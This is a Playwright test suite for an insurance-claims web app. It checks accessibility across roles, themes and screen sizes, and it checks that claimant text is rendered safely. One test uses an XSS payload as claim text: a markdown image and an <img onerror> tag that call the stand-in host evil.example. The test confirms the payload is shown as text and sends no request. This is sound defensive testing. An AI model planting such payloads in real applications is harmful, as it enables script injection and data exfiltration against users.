import AxeBuilder from "@axe-core/playwright";
import { expect, fileClaim, type Role, referenceOf, test } from "./people";

const widths = { "a desk": { width: 1440, height: 900 }, "a phone": { width: 390, height: 844 } };

for (const [name, viewport] of Object.entries(widths)) {
  test(`every page is accessible, in light and dark, and fits on ${name}`, async ({
    as,
    request,
    browser,
    baseURL,
  }) => {
    test.slow();
    const sessionId = await fileClaim(request, "My balcony door shattered in the storm, the glazier wants $1,900");
    const reference = await referenceOf(request, sessionId);
    const own = await request.get("/api/v1/reviews?status=open", {
      headers: { authorization: "Bearer demo-reviewer-key" },
    });
    const { reviews } = await own.json();
    const waitId = reviews.find((one: { session_id: string }) => one.session_id === sessionId).id;
    const started = await request.post("/execute", {
      headers: { authorization: "Bearer demo-claimant-key" },
      data: { content: "Somebody scratched my car, the garage says $410" },
    });
    const claim = (await started.json()).session_id;
    const pages: [Role, string[]][] = [
      ["claimant", ["/claims", `/claims/${claim}`, "/claims/00000000-0000-4000-8000-000000000000", "/inbox"]],
      ["reviewer", ["/inbox", `/inbox/${waitId}`, "/inbox?tab=decided", `/inbox?q=nothing-like-this`]],
      ["designer", ["/workflows", `/workflows/insurance-claims?session=${sessionId}`]],
      ["admin", ["/sessions", `/sessions/${sessionId}`, `/sessions?q=${reference}`]],
    ];
    const check = async (page: import("@playwright/test").Page, path: string) => {
      await page.goto(path);
      await page.getByRole("heading", { level: 1 }).first().waitFor();
      for (const colorScheme of ["light", "dark"] as const) {
        await page.emulateMedia({ colorScheme, reducedMotion: "reduce" });
        await expect(page.locator("html")).toHaveAttribute("data-theme", colorScheme);
        const { violations } = await new AxeBuilder({ page }).analyze();
        const found = violations.map(
          ({ id, nodes }) => `${path} in ${colorScheme}: ${id} ${nodes.map((node) => node.target).join(" ")}`,
        );
        expect(found).toEqual([]);
      }
      const overflow = await page.evaluate(
        () => document.documentElement.scrollWidth - document.documentElement.clientWidth,
      );
      expect(overflow, `${path} scrolls sideways`).toBeLessThanOrEqual(0);
    };
    const visitor = await browser.newContext({ baseURL, viewport });
    await check(await visitor.newPage(), "/sign-in");
    await visitor.close();
    for (const [role, paths] of pages) {
      const page = await as(role, { viewport });
      for (const path of paths) await check(page, path);
    }
  });
}

test("words from claimants are shown as text, and no request leaves the page", async ({ as, request }) => {
  const sessionId = await fileClaim(
    request,
    "Fire in my kitchen, $9,000 ![x](https://evil.example/?d=1) <img src=https://evil.example/a onerror=alert(1)>",
    "demo-claimant-key",
  );
  for (const [role, path] of [
    ["claimant", `/claims/${sessionId}`],
    ["admin", `/sessions/${sessionId}`],
  ] as const) {
    const page = await as(role);
    const outside: string[] = [];
    page.on("request", (sent) => {
      if (sent.url().includes("evil.example")) outside.push(sent.url());
    });
    await page.goto(path);
    await expect(page.getByText("<img src=https://evil.example/a onerror=alert(1)>").first()).toBeVisible();
    expect(outside).toEqual([]);
  }
});
